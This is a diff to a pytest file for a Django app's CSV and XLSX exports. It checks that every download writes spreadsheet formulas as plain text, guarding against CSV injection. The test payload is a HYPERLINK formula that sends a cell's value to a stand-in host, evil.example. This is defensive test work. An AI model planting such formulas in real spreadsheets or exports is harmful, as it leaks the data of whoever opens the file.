@@ -1,5 +1,5 @@
 """kadans.core.exports, the one writer of every CSV and XLSX download: types kept, several tables, and text
-that a spreadsheet would run as a formula written as text (OWASP, CSV injection)."""
+that a spreadsheet would run as a formula written as text (OWASP, CSV injection) — in every download."""
 
 import csv
 import datetime
@@ -8,10 +8,15 @@ import zoneinfo
 from decimal import Decimal
 
 import pytest
+import time_machine
 from django.utils import timezone
 from openpyxl import load_workbook
 
+from kadans.activities.services import CostLineData, activity_create
 from kadans.core.exports import Sheet, csv_value, export_response, export_sheets_response
+from kadans.relations.models import BusinessStatus
+from tests.factories import ActivityTypeFactory, ProductFactory, RelationFactory, UserFactory
+from tests.reports_support import done, lunch
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
 BXL = zoneinfo.ZoneInfo("Europe/Brussels")
@@ -93,3 +98,56 @@ def test_several_tables_are_titled_blocks_in_csv_and_sheets_in_xlsx():
     assert list(book) == ["Per type", "Per type 2"]  # Excel wants unique names
     name, total = book["Per type 2"][1]
     assert name.data_type == "s" and total.number_format == "#,##0.00"
+
+
+# -- every download of Kadans writes the payload as text ---------------------------------------------------
+
+
+@pytest.fixture
+def payload_world(db):
+    """The payload as a relation's name (as a public lead form could send it), an action type's, a
+    product's and a representative's name, on data that every export and report shows."""
+    rep = UserFactory(username="rep", first_name=PAYLOAD, last_name="", language="en")
+    admin = UserFactory(username="ada", role="administrator", language="en")
+    relation = RelationFactory(name=PAYLOAD, representative=rep, phone="+32 9 123 45 67")
+    visit = ActivityTypeFactory(name=PAYLOAD)
+    product = ProductFactory(name=PAYLOAD, cost_price=Decimal("1.25"))
+    done(user=rep, relation=relation, activity_type=visit, day=datetime.date(2025, 3, 3),
+         lines=[lunch("30.00", description=PAYLOAD), CostLineData(product=product)],
+         new_status=BusinessStatus.objects.get(code="customer"))
+    with time_machine.travel(datetime.datetime(2025, 3, 1, 12, tzinfo=BXL), tick=False):
+        activity_create(user=rep, relation=relation, activity_type=visit, start=datetime.date(2025, 3, 5),
+                        summary=PAYLOAD)
+    return {"rep": rep, "admin": admin}
+
+
+MARCH = {"start": "2025-03-01", "end": "2025-03-31"}
+DOWNLOADS = [
+    # (who, url, query): every CSV/XLSX download there is; {fmt} is csv or xlsx
+    ("rep", "/integrations/export/relations.{fmt}", {}),
+    ("rep", "/integrations/export/my-activities.{fmt}", {}),
+    ("rep", "/integrations/export/products.{fmt}", {}),
+    ("admin", "/reports/costs/", {**MARCH, "group": "relation", "export": "{fmt}"}),
+    ("admin", "/reports/costs/", {**MARCH, "group": "representative,type", "export": "{fmt}"}),
+    ("admin", "/reports/costs/", {**MARCH, "group": "product", "export": "{fmt}"}),
+    ("admin", "/reports/conversions/", {**MARCH, "export": "{fmt}"}),
+    ("admin", "/reports/activities/", {**MARCH, "export": "{fmt}"}),
+]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize(("who", "url", "query"), DOWNLOADS, ids=lambda v: v if isinstance(v, str) else None)
+def test_every_download_writes_a_formula_as_text(client, payload_world, fmt, who, url, query):
+    client.force_login(payload_world[who])
+    with time_machine.travel(datetime.datetime(2025, 3, 12, 12, tzinfo=BXL), tick=False):
+        response = client.get(url.format(fmt=fmt), {k: v.format(fmt=fmt) for k, v in query.items()})
+    assert response.status_code == 200
+    if fmt == "csv":
+        cells = [cell for row in read_csv(response) for cell in row if "HYPERLINK" in cell]
+        assert cells and all(cell == "'" + PAYLOAD for cell in cells)
+    else:
+        cells = [cell for rows in read_cells(response).values() for row in rows for cell in row
+                 if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
+        assert cells
+        for cell in cells:
+            assert cell.value == PAYLOAD and cell.data_type == "s", "openpyxl reads no formula back"
